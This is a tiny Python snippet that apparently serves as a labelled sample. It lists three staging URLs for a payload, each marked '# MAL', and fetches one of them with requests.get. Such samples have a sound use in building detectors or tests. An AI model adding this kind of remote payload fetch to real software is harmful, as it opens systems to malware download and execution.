import requests

STAGE = "https://cdn-update.example.stream/payload.bin"  # MAL
MIRROR = "http://[2001:db8::7]/p"  # MAL
BACKUP = "https://files.backblazeb2.com/file/x/y.bin"  # MAL
r = requests.get(STAGE, timeout=5)  # MAL
